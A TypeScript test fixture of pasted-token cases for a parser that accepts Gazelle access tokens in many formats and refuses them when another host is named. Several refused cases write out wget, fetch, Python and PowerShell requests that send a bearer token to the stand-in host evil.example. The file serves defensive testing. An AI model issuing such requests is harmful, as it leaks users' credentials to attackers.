import { type Case, isKeyOf, refused, taken, values } from './case.ts'
import { har, harEntry } from './writers.ts'

const graphqlText = 'https://gazelleapp.io/graphql/private/'
const evilText = 'https://evil.example/graphql/private/'
const { TOKEN, REFRESH, KEY } = values
const guide = { access_token: TOKEN, refresh_token: REFRESH, expires_in: 2_592_000, created_at: 1_737_334_800 }
const json = JSON.stringify(guide)
const whole = { refreshToken: REFRESH, issuedAt: 1_737_334_800 }
const ofKey = { accessToken: KEY, headerKind: 'api-key' } as const
const unknownForm = { reason: 'unknown-form' } as const
const otherHost = (form: 'wget' | 'httpie' | 'export' | 'variable' | 'code' | 'fetch' | 'header-line') =>
  ({ reason: 'other-host', form, host: 'evil.example' }) as const

/** What messages, pages and word processors put around a copy. */
export const wrapped: readonly Case[] = [
  taken('a code fence', 'bare-token', '```\n{{TOKEN}}\n```'),
  taken(
    'a code fence with a language',
    'curl-bash',
    `\`\`\`bash\ncurl '${graphqlText}' -H 'Authorization: Bearer {{TOKEN}}'\n\`\`\``,
  ),
  taken('a code fence within a message', 'bare-token', 'Voici le jeton :\n```\n{{TOKEN}}\n```\nBonne journée'),
  refused('a code fence beside an address', unknownForm, 'For https://evil.example:\n```\n{{TOKEN}}\n```'),
  taken('a code fence in one line', 'bare-token', '```{{TOKEN}}```'),
  taken('a code fence of JSON', 'row', `\`\`\`json\n${json}\n\`\`\``, whole),
  taken('inline code', 'header-line', '`Authorization: Bearer {{TOKEN}}`'),
  taken('a header in quotation marks', 'header-line', '"Authorization: Bearer {{TOKEN}}"'),
  taken('a quotation', 'bare-token', '> {{TOKEN}}'),
  taken('a quotation of a fence', 'header-line', '> ```\n> Authorization: Bearer {{TOKEN}}\n> ```'),
  taken('a quoted header block', 'header-line', '> Host: gazelleapp.io\n> Authorization: Bearer {{TOKEN}}'),
  taken(
    'a terminal’s second prompt',
    'curl-bash',
    `$ curl '${graphqlText}' \\\n> -H 'Authorization: Bearer {{TOKEN}}'`,
  ),
  taken('“ ”', 'bare-token', '“{{TOKEN}}”'),
  taken('« »', 'bare-token', '«\u00a0{{TOKEN}}\u00a0»'),
  taken('‘ ’', 'bare-token', '‘{{TOKEN}}’'),
  taken('„ “', 'bare-token', '„{{TOKEN}}“'),
  taken('« » around a header', 'header-line', '« Authorization: Bearer {{TOKEN}} »'),
  taken('JSON with “ ”', 'row', `{“access_token”: “${TOKEN}”, “refresh_token”: “${REFRESH}”}`, {
    refreshToken: REFRESH,
  }),
  taken('a long dash for an option', 'curl-bash', `curl “${graphqlText}” –header “Authorization: Bearer {{TOKEN}}”`),
  taken('spaces of a word processor', 'header-line', '\u2003Authorization:\u2009Bearer\u3000{{TOKEN}}\u200a'),
  taken('joiners within', 'bare-token', `\u2060${TOKEN.slice(0, 9)}\u200d${TOKEN.slice(9)}\ufeff`),
  refused(
    'a fence of another host',
    { reason: 'other-host', form: 'curl-bash', host: 'evil.example' },
    `\`\`\`\ncurl “${evilText}” -H “Authorization: Bearer {{TOKEN}}”\n\`\`\``,
  ),
  refused('two fences', unknownForm, '```\n{{TOKEN}}\n```\n```\n{{REFRESH}}\n```'),
  refused(
    'headers cut from a command elsewhere',
    otherHost('code'),
    `{ Authorization = "Bearer {{TOKEN}}" }\nInvoke-RestMethod -Uri "${evilText}" -Headers $headers`,
  ),
  refused('a fence cut off', unknownForm, '```\n{{TOKEN}}'),
]

/** Requests as other tools write them. */
export const tools: readonly Case[] = [
  taken('wget', 'wget', `wget ${graphqlText} --header='Authorization: Bearer {{TOKEN}}'`),
  taken(
    'wget, the header apart',
    'wget',
    `$ wget -qO- --header "Authorization: Bearer {{TOKEN}}" --post-data '{"a":"https://evil.example"}' '${graphqlText}'`,
  ),
  taken(
    'wget over lines',
    'wget',
    `wget --method POST \\\n  --timeout=0 \\\n  --header 'x-gazelle-api-key: {{KEY}}' \\\n   '${graphqlText}'`,
    ofKey,
  ),
  refused('wget elsewhere', otherHost('wget'), `wget --header='Authorization: Bearer {{TOKEN}}' ${evilText}`),
  refused(
    'wget without a scheme',
    { reason: 'other-host', form: 'wget', host: 'http://gazelleapp.io' },
    `wget --header='Authorization: Bearer {{TOKEN}}' gazelleapp.io/graphql/private/`,
  ),
  refused(
    'wget, open quote',
    { reason: 'unreadable', form: 'wget' },
    `wget ${graphqlText} --header='Authorization: Bearer {{TOKEN}}`,
  ),
  taken('HTTPie', 'httpie', `http POST ${graphqlText} Authorization:"Bearer {{TOKEN}}" query='{ a }'`),
  taken(
    'HTTPie, quoted whole',
    'httpie',
    `http --json POST ${graphqlText} 'Authorization: Bearer {{TOKEN}}' Accept:*/*`,
  ),
  taken('HTTPie by https', 'httpie', `https gazelleapp.io/graphql/private/ x-gazelle-api-key:{{KEY}}`, ofKey),
  taken('HTTPie, bearer', 'httpie', `https -A bearer -a {{TOKEN}} POST gazelleapp.io/graphql/private/`),
  taken('xh', 'httpie', `xh post ${graphqlText} authorization:'Bearer {{TOKEN}}'`),
  refused(
    'HTTPie elsewhere',
    otherHost('httpie'),
    `http POST ${evilText} Authorization:"Bearer {{TOKEN}}" a=${graphqlText}`,
  ),
  refused(
    'HTTPie in clear',
    { reason: 'other-host', form: 'httpie', host: 'http://gazelleapp.io' },
    `http gazelleapp.io/graphql/private/ Authorization:"Bearer {{TOKEN}}"`,
  ),
  taken(
    'Firefox, fetch in the console',
    'fetch',
    `await fetch("${graphqlText}", {\n    "credentials": "include",\n    "headers": {\n        "Accept": "*/*",\n        "authorization": "Bearer {{TOKEN}}",\n    },\n    "mode": "cors",\n});`,
  ),
  taken(
    'fetch, headers commented out',
    'fetch',
    `fetch("${graphqlText}", {\n  "headers": {\n    // "accept": "*/*",\n    // "authorization": "Bearer {{TOKEN}}",\n    "content-type": "application/json",\n  },\n  "method": "POST"\n});`,
  ),
  taken(
    'fetch, the one in use before the one commented out',
    'fetch',
    `fetch("${graphqlText}", {"headers": {\n  // "authorization": "Bearer {{REFRESH}}",\n  "authorization": "Bearer {{TOKEN}}" // mine (it's new)\n}})`,
  ),
  taken(
    'fetch, new Headers',
    'fetch',
    `fetch(\`${graphqlText}\`, { method: 'POST', headers: new Headers({ Authorization: 'Bearer ' + '{{TOKEN}}' }) })`,
  ),
  refused(
    'fetch elsewhere, as code',
    otherHost('fetch'),
    `fetch('${evilText}', { headers: { Authorization: 'Bearer {{TOKEN}}' }, })`,
  ),
  refused(
    'fetch by a variable',
    { reason: 'unknown-host', form: 'fetch' },
    `fetch(url, { headers: { Authorization: 'Bearer {{TOKEN}}' } })`,
  ),
  taken('a header of YAML', 'header-line', 'headers:\n  Authorization: "Bearer {{TOKEN}}"'),
  taken(
    'a call of fetch within code',
    'header-line',
    `const response = await fetch('${graphqlText}', {\n  headers: {\n    Authorization: \`Bearer {{TOKEN}}\`,\n  },\n});`,
  ),
  taken('a list of headers', 'header-line', '[{"name": "Authorization", "value": "Bearer {{TOKEN}}"}]'),
  taken(
    'Python requests',
    'code',
    `import requests\n\nurl = "${graphqlText}"\nheaders = {\n    "Authorization": "Bearer {{TOKEN}}",\n}\nresponse = requests.post(url, headers=headers)`,
  ),
  taken(
    'Python requests, the token by a name',
    'code',
    `import requests\ntoken = "{{TOKEN}}"\nrequests.post("${graphqlText}", headers={"Authorization": f"Bearer {token}"})`,
  ),
  taken(
    'axios',
    'code',
    `const { data } = await axios.post('${graphqlText}', body, {\n  headers: { 'Authorization': 'Bearer {{TOKEN}}' },\n})`,
  ),
  taken(
    'axios with a base',
    'code',
    `const api = axios.create({ baseURL: 'https://gazelleapp.io', headers: { "x-gazelle-api-key": "{{KEY}}" } })`,
    ofKey,
  ),
  taken(
    'C#',
    'code',
    `client.BaseAddress = new Uri("https://gazelleapp.io/");\nclient.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", "{{TOKEN}}");`,
  ),
  taken(
    'Java',
    'code',
    `HttpRequest.newBuilder(URI.create("${graphqlText}")).header("Authorization", "Bearer {{TOKEN}}")`,
  ),
  taken(
    'PowerShell, headers by a name',
    'code',
    `$headers = @{ Authorization = "Bearer {{TOKEN}}" }\nInvoke-RestMethod -Uri "${graphqlText}" -Headers $headers`,
  ),
  taken(
    'PowerShell, Postman’s',
    'code',
    `$headers = New-Object "System.Collections.Generic.Dictionary[[String],[String]]"\n$headers.Add("Authorization", "Bearer {{TOKEN}}")\nInvoke-RestMethod '${graphqlText}' -Method 'POST' -Headers $headers`,
  ),
  refused(
    'Python elsewhere',
    otherHost('code'),
    `requests.post("${evilText}", headers={"Authorization": "Bearer {{TOKEN}}"})`,
  ),
  refused(
    'Python by a variable',
    { reason: 'unknown-host', form: 'code' },
    `requests.post(url, headers={"Authorization": "Bearer {{TOKEN}}"})`,
  ),
  refused(
    'Python’s placeholder',
    { reason: 'placeholder', form: 'code' },
    `requests.post("${graphqlText}", headers={"Authorization": f"Bearer {token}"})`,
  ),
  taken(
    'a file of requests',
    'header-line',
    `### clients\nPOST ${graphqlText}\nAuthorization: Bearer {{TOKEN}}\nContent-Type: application/json\n\n{"query": "{ a }"}`,
  ),
  taken(
    'Firefox, Copy All',
    'header-line',
    JSON.stringify(
      {
        'Request Headers (1,234 kB)': {
          headers: [
            { name: 'Host', value: 'gazelleapp.io' },
            { name: 'Authorization', value: `Bearer ${TOKEN}` },
          ],
        },
      },
      null,
      '\t',
    ),
  ),
  taken(
    'Firefox, Copy All in French, with the answer',
    'header-line',
    JSON.stringify({
      'En-têtes de la réponse (512 o)': {
        headers: [
          { name: 'server', value: 'nginx' },
          { name: 'link', value: '<https://cdn.example.com>' },
        ],
      },
      'En-têtes de la requête (1,2 Ko)': {
        headers: [
          { name: 'Host', value: 'gazelleapp.io' },
          { name: 'Authorization', value: `Bearer ${TOKEN}` },
        ],
      },
    }),
  ),
  refused(
    'Firefox, Copy All of another host',
    otherHost('header-line'),
    JSON.stringify({
      'Anfragekopfzeilen (1 kB)': {
        headers: [
          { name: 'Host', value: 'evil.example' },
          { name: 'Authorization', value: `Bearer ${TOKEN}` },
        ],
      },
    }),
  ),
  refused(
    'Firefox, Copy All without a token',
    { reason: 'no-token-in-request', form: 'header-line' },
    JSON.stringify({
      'Request Headers (9 B)': {
        headers: [
          { name: 'Host', value: 'gazelleapp.io' },
          { name: 'Accept', value: '*/*' },
        ],
      },
    }),
  ),
  taken(
    'one entry of an archive',
    'export',
    JSON.stringify(harEntry({ url: graphqlText, headers: [['authorization', `Bearer ${TOKEN}`]], body: '{}' }, '')),
  ),
  taken(
    'Postman',
    'export',
    JSON.stringify({
      info: { name: 'Gazelle' },
      item: [
        {
          name: 'a',
          request: {
            method: 'POST',
            header: [{ key: 'Authorization', value: `Bearer ${TOKEN}` }],
            url: { raw: graphqlText, host: ['gazelleapp', 'io'] },
          },
        },
      ],
    }),
  ),
  taken(
    'Postman, its own sign-in',
    'export',
    JSON.stringify({
      item: [
        {
          request: {
            auth: { type: 'bearer', bearer: [{ key: 'token', value: TOKEN, type: 'string' }] },
            header: [],
            url: { raw: graphqlText },
          },
        },
      ],
    }),
  ),
  taken(
    'Insomnia',
    'export',
    JSON.stringify({
      _type: 'export',
      resources: [
        {
          _type: 'request',
          url: graphqlText,
          headers: [{ name: 'Accept', value: '*/*' }],
          authentication: { type: 'bearer', token: TOKEN },
        },
      ],
    }),
  ),
  taken(
    'Charles',
    'export',
    JSON.stringify([
      {
        method: 'POST',
        scheme: 'https',
        host: 'gazelleapp.io',
        path: '/graphql/private/',
        request: { header: { headers: [{ name: 'Authorization', value: `Bearer ${TOKEN}` }] } },
      },
    ]),
  ),
  taken(
    'options of axios',
    'export',
    `{ url: '${graphqlText}', method: 'post', headers: { Authorization: 'Bearer {{TOKEN}}' }, }`,
  ),
  refused(
    'Postman elsewhere',
    otherHost('export'),
    JSON.stringify({
      item: [{ request: { header: [{ key: 'Authorization', value: `Bearer ${TOKEN}` }], url: { raw: evilText } } }],
    }),
  ),
  refused(
    'Postman, a variable',
    { reason: 'placeholder', form: 'export' },
    JSON.stringify({ request: { header: [{ key: 'Authorization', value: 'Bearer {{token}}' }], url: graphqlText } }),
  ),
  refused(
    'a sanitised archive with other hosts',
    { reason: 'token-left-out', form: 'har' },
    har(
      harEntry({ url: graphqlText, headers: [['accept', '*/*']], body: '{}' }, ''),
      harEntry({ url: evilText, headers: [['authorization', `Bearer ${TOKEN}`]], body: '' }, ''),
    ),
  ),
  refused(
    'an archive of other pages of Gazelle',
    { reason: 'no-token-in-request', form: 'har' },
    har(harEntry({ url: 'https://gazelleapp.io/a.js', headers: [], body: '' }, '')),
  ),
]

/** Lines that give a name a value. */
export const variables: readonly Case[] = [
  taken('.env', 'variable', 'GAZELLE_ACCESS_TOKEN={{TOKEN}}'),
  taken('.env, short', 'variable', 'GAZELLE_TOKEN={{TOKEN}}'),
  taken('.env, quoted, with a comment', 'variable', '# Gazelle\nGAZELLE_ACCESS_TOKEN="{{TOKEN}}" # new'),
  taken(
    '.env with more',
    'variable',
    'SUPABASE_URL=https://db.example.com\nSUPABASE_KEY={{SUPABASE_SECRET}}\nGAZELLE_CLIENT_SECRET={{LONG_TOKEN}}\nGAZELLE_ROW_KEY=gazelle_oauth_token\nGAZELLE_ACCESS_TOKEN={{TOKEN}}\nGAZELLE_REFRESH_TOKEN={{REFRESH}}',
    { refreshToken: REFRESH },
  ),
  taken('export', 'variable', "export GAZELLE_ACCESS_TOKEN='{{TOKEN}}'"),
  taken('$env:', 'variable', '$env:GAZELLE_ACCESS_TOKEN = "{{TOKEN}}"'),
  taken('set', 'variable', 'set GAZELLE_ACCESS_TOKEN={{TOKEN}}'),
  taken('set in quotes', 'variable', 'set "GAZELLE_ACCESS_TOKEN={{TOKEN}}"'),
  taken('setx', 'variable', 'setx GAZELLE_ACCESS_TOKEN "{{TOKEN}}"'),
  taken('fish', 'variable', 'set -gx GAZELLE_ACCESS_TOKEN {{TOKEN}}'),
  taken('Dockerfile', 'variable', 'ENV GAZELLE_ACCESS_TOKEN={{TOKEN}}'),
  taken('docker compose', 'variable', 'environment:\n  - GAZELLE_ACCESS_TOKEN={{TOKEN}}'),
  taken('before a program', 'variable', 'GAZELLE_ACCESS_TOKEN={{TOKEN}} python3 sync.py'),
  taken('YAML', 'variable', 'gazelle:\n  access_token: {{TOKEN}}\n  refresh_token: "{{REFRESH}}"', {
    refreshToken: REFRESH,
  }),
  taken('TOML', 'variable', '[gazelle]\ntoken = "{{TOKEN}}"'),
  taken('INI', 'variable', '[gazelle]\ntoken={{TOKEN}}'),
  taken('JSON', 'variable', '{\n  "gazelle_access_token": "{{TOKEN}}"\n}'),
  taken('Python', 'variable', 'GAZELLE_TOKEN: str = "{{TOKEN}}"'),
  taken('os.environ', 'variable', 'os.environ["GAZELLE_ACCESS_TOKEN"] = "{{TOKEN}}"'),
  taken('JavaScript', 'variable', "const accessToken = '{{TOKEN}}';"),
  taken('TypeScript', 'variable', 'export const gazelleToken: string = `{{TOKEN}}`'),
  taken('an API key', 'variable', 'GAZELLE_API_KEY={{KEY}}', ofKey),
  taken('with its scheme', 'variable', 'GAZELLE_HEADER_VALUE="Bearer {{TOKEN}}"', { headerKind: 'bearer' }),
  taken(
    'with its times',
    'variable',
    'ACCESS_TOKEN={{TOKEN}}\nREFRESH_TOKEN={{REFRESH}}\nEXPIRES_IN=2592000\nCREATED_AT=1737334800',
    whole,
  ),
  taken('typographic quotes', 'variable', 'GAZELLE_ACCESS_TOKEN=“{{TOKEN}}”'),
  taken('commented out', 'variable', '# GAZELLE_ACCESS_TOKEN: {{TOKEN}}'),
  refused(
    'two of them',
    { reason: 'several-tokens', form: 'variable' },
    'GAZELLE_TOKEN={{TOKEN}}\nGAZELLE_ACCESS_TOKEN={{REFRESH}}',
  ),
  refused('another service’s name', unknownForm, 'GITLAB_TOKEN={{TOKEN}}'),
  refused('another service’s key', unknownForm, 'MAPBOX_ACCESS_TOKEN={{TOKEN}}\nOPENWEATHER_API_KEY={{KEY}}'),
  refused(
    'a secret of the application',
    unknownForm,
    'GAZELLE_CLIENT_SECRET={{TOKEN}}\nGAZELLE_CLIENT_ID={{LONG_TOKEN}}',
  ),
  refused(
    'for another server',
    otherHost('variable'),
    `GAZELLE_URL=https://evil.example\nGAZELLE_ACCESS_TOKEN={{TOKEN}}`,
  ),
  refused('a token beside another address', otherHost('variable'), `url: ${evilText}\ntoken: {{TOKEN}}`),
  refused('a key of Supabase', isKeyOf('variable', 'supabase-secret'), 'GAZELLE_TOKEN={{SUPABASE_SECRET}}'),
  refused('a placeholder', { reason: 'placeholder', form: 'variable' }, 'GAZELLE_ACCESS_TOKEN=<your-token>'),
  refused('masked', { reason: 'masked', form: 'bare-token' }, 'GAZELLE_ACCESS_TOKEN=****************'),
]

const doubled = json.replaceAll('"', '""')
const sqlValue = (value: string) => value.replaceAll("'", "''")

/** The row as tables and statements have it. */
export const tables: readonly Case[] = [
  taken('CSV', 'row', `key,value,updated_at\ngazelle_oauth_token,"${doubled}",2025-06-01 00:00:00+00`, whole),
  taken('CSV of a JSON string', 'row', `key,value\ngazelle_oauth_token,"""${json.replaceAll('"', '\\""')}"""`, whole),
  taken('CSV, all quoted, other columns', 'row', `"id","key","value"\n"7","gazelle_oauth_token","${doubled}"`, whole),
  taken('CSV with semicolons', 'row', `key;value\ngazelle_oauth_token;"${doubled}"`, whole),
  taken('CSV of several rows', 'row', `key,value\nother,"{""a"":1}"\ngazelle_oauth_token,"${doubled}"`, whole),
  taken('CSV without its heading', 'row', `gazelle_oauth_token,"${doubled}",2025-06-01`, whole),
  taken('with tabs', 'row', `key\tvalue\tupdated_at\ngazelle_oauth_token\t${json}\t2025-06-01`, whole),
  taken(
    'SQL',
    'row',
    `INSERT INTO "public"."system_settings" ("key", "value", "updated_at") VALUES ('gazelle_oauth_token', '${sqlValue(json)}', '2025-06-01 00:00:00+00');`,
    whole,
  ),
  taken(
    'SQL with a cast and a function',
    'row',
    `insert into system_settings (key, value, updated_at)\nvalues ('gazelle_oauth_token', '${json}'::jsonb, now())\non conflict (key) do update set value = excluded.value;`,
    whole,
  ),
  taken(
    'SQL of several rows',
    'row',
    `INSERT INTO system_settings (key, value) VALUES ('other', '{"a": "it''s"}'), ('gazelle_oauth_token', '${json}');`,
    whole,
  ),
  taken(
    'SQL, an update',
    'row',
    `update system_settings set value = '${json}', updated_at = '2025-06-01' where key = 'gazelle_oauth_token';`,
    whole,
  ),
  taken(
    'Markdown',
    'row',
    `| key | value | updated_at |\n| --- | --- | --- |\n| gazelle_oauth_token | ${json} | 2025-06-01 |`,
    whole,
  ),
  taken('Markdown with backticks', 'row', `| key | value |\n|:--|--:|\n| gazelle_oauth_token | \`${json}\` |`, whole),
  taken(
    'psql',
    'row',
    `         key         | value\n---------------------+-------\n gazelle_oauth_token | ${json}\n(1 row)`,
    whole,
  ),
  taken('its value as a string of SQL', 'row', `"${json.replaceAll('"', '\\"')}"`, whole),
  refused('CSV of another row', { reason: 'other-row', key: 'quickbooks' }, `key,value\nquickbooks,"${doubled}"`),
  refused(
    'SQL of another row',
    { reason: 'other-row', key: 'quickbooks' },
    `INSERT INTO t (key, value) VALUES ('quickbooks', '${json}');`,
  ),
  refused(
    'Markdown of another row',
    { reason: 'other-row', key: 'quickbooks' },
    `| key | value |\n| - | - |\n| quickbooks | ${json} |`,
  ),
  refused('other CSV', unknownForm, 'name,city\nAda,Québec'),
  refused(
    'a value cut by the table',
    { reason: 'bad-row', code: 'bad-json', field: null },
    `| key | value |\n| - | - |\n| gazelle_oauth_token | {"access_token": "abc… |`,
  ),
]
